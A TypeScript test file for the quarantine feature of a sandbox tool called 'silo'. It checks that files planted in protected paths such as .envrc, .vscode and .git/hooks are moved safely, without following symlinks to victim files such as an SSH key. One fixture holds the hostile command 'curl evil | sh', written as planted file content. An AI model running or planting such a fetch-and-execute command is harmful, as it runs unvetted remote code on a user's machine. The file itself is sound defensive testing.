import { describe, expect, test } from "bun:test";
import { existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, realpathSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { quarantine, quarantineDir, type QuarantineMeta } from "../../../src/app/quarantine.ts";
import { homePaths } from "../../../src/core/paths.ts";
import { setLogSink } from "../../../src/core/log.ts";
import { tmp } from "../../helpers/silo.ts";

function setup() {
  const root = realpathSync(tmp());
  const home = homePaths(join(tmp(), "silo-home"));
  const lines: string[] = [];
  setLogSink((s) => lines.push(s));
  return { root, home, lines, run: { root, tool: "python" } };
}

const records = (home: ReturnType<typeof homePaths>) =>
  require("node:fs").readdirSync(quarantineDir(home)).map((id: string) => JSON.parse(readFileSync(join(quarantineDir(home), id, "meta.json"), "utf8")) as QuarantineMeta);

describe("quarantine", () => {
  test("moves a planted file and records it; SILO_HOME and the record are 0700", () => {
    const { root, home, lines, run } = setup();
    writeFileSync(join(root, ".envrc"), "curl evil | sh\n");
    const moved = quarantine(home, run, [{ base: root, from: ".envrc", path: ".envrc", reason: "protected path created" }]);
    setLogSink(null);
    expect(moved).toEqual([".envrc"]);
    expect(existsSync(join(root, ".envrc"))).toBe(false);
    const [meta] = records(home);
    expect(meta!.entries).toEqual([{ path: ".envrc", reason: "protected path created", type: "file" }]);
    expect(meta!.root).toBe(root);
    expect(meta!.tool).toBe("python");
    expect(readFileSync(join(quarantineDir(home), meta!.id, "files", ".envrc"), "utf8")).toBe("curl evil | sh\n");
    for (const d of [home.home, quarantineDir(home), join(quarantineDir(home), meta!.id)]) expect(statSync(d).mode & 0o777).toBe(0o700);
    expect(lines.filter((l) => l.includes("silo quarantine")).length).toBe(1);
  });

  test("a symlink is moved as a symlink; its target is untouched", () => {
    const { root, home, run } = setup();
    const victim = tmp();
    writeFileSync(join(victim, "config"), "secret");
    symlinkSync(victim, join(root, ".vscode"));
    expect(quarantine(home, run, [{ base: root, from: ".vscode", path: ".vscode", reason: "r" }])).toEqual([".vscode"]);
    setLogSink(null);
    const [meta] = records(home);
    expect(meta!.entries[0]!.type).toBe("symlink");
    expect(readlinkSync(join(quarantineDir(home), meta!.id, "files", ".vscode"))).toBe(victim);
    expect(readFileSync(join(victim, "config"), "utf8")).toBe("secret");
  });

  test("never follows a symlinked directory on the way (.git → victim): the victim keeps its files", () => {
    const { root, home, lines, run } = setup();
    const victim = tmp();
    mkdirSync(join(victim, "hooks"));
    writeFileSync(join(victim, "config"), "[core]\n");
    symlinkSync(victim, join(root, ".git"));
    const moved = quarantine(home, run, [
      { base: root, from: ".git/config", path: ".git/config", reason: "r" },
      { base: root, from: ".git/hooks", path: ".git/hooks", reason: "r" },
    ]);
    setLogSink(null);
    expect(moved).toEqual([]);
    expect(readFileSync(join(victim, "config"), "utf8")).toBe("[core]\n");
    expect(lstatSync(join(victim, "hooks")).isDirectory()).toBe(true);
    expect(lines.join("")).toContain("does not follow");
  });

  test("refuses paths that leave the base; skips what is not there", () => {
    const { root, home, lines, run } = setup();
    const outside = join(root, "..", `q-outside-${process.pid}`);
    writeFileSync(outside, "x");
    const moved = quarantine(home, run, [
      { base: root, from: `../q-outside-${process.pid}`, path: "x", reason: "r" },
      { base: root, from: "missing", path: "missing", reason: "r" },
      { base: root, from: "a", path: "/abs", reason: "r" },
    ]);
    setLogSink(null);
    expect(moved).toEqual([]);
    expect(existsSync(outside)).toBe(true);
    expect(existsSync(quarantineDir(home))).toBe(false);
    expect(lines.length).toBe(2);
  });

  test("a directory the sandbox left 0500 is moved whole, from a base silo created", () => {
    const { home, run } = setup();
    const upper = tmp();
    mkdirSync(join(upper, "hooks", "sub"), { recursive: true });
    writeFileSync(join(upper, "hooks", "sub", "pre-commit"), "#!/bin/sh\n");
    require("node:fs").chmodSync(join(upper, "hooks"), 0o500);
    expect(quarantine(home, run, [{ base: upper, from: "hooks", path: ".git/hooks", reason: "r" }])).toEqual([".git/hooks"]);
    setLogSink(null);
    const [meta] = records(home);
    expect(readFileSync(join(quarantineDir(home), meta!.id, "files", ".git/hooks/sub/pre-commit"), "utf8")).toBe("#!/bin/sh\n");
  });

  test("across filesystems (/dev/shm → SILO_HOME) the tree is copied without following links, then removed", () => {
    const { home, run } = setup();
    const root = require("node:fs").mkdtempSync("/dev/shm/silo-q-");
    expect(statSync(root).dev).not.toBe(statSync(tmp()).dev);
    const victim = tmp();
    writeFileSync(join(victim, "id_rsa"), "key");
    mkdirSync(join(root, ".vscode", "sub"), { recursive: true });
    writeFileSync(join(root, ".vscode", "sub", "tasks.json"), "{}");
    require("node:fs").chmodSync(join(root, ".vscode", "sub", "tasks.json"), 0o4755);
    symlinkSync(victim, join(root, ".vscode", "ssh"));
    try {
      expect(quarantine(home, { ...run, root }, [{ base: root, from: ".vscode", path: ".vscode", reason: "r" }])).toEqual([".vscode"]);
      setLogSink(null);
      const [meta] = records(home);
      const files = join(quarantineDir(home), meta!.id, "files");
      expect(readFileSync(join(files, ".vscode/sub/tasks.json"), "utf8")).toBe("{}");
      expect(statSync(join(files, ".vscode/sub/tasks.json")).mode & 0o7777).toBe(0o755);
      expect(readlinkSync(join(files, ".vscode/ssh"))).toBe(victim);
      expect(existsSync(join(root, ".vscode"))).toBe(false);
      expect(readFileSync(join(victim, "id_rsa"), "utf8")).toBe("key");
    } finally {
      require("node:fs").rmSync(root, { recursive: true, force: true });
    }
  });
});
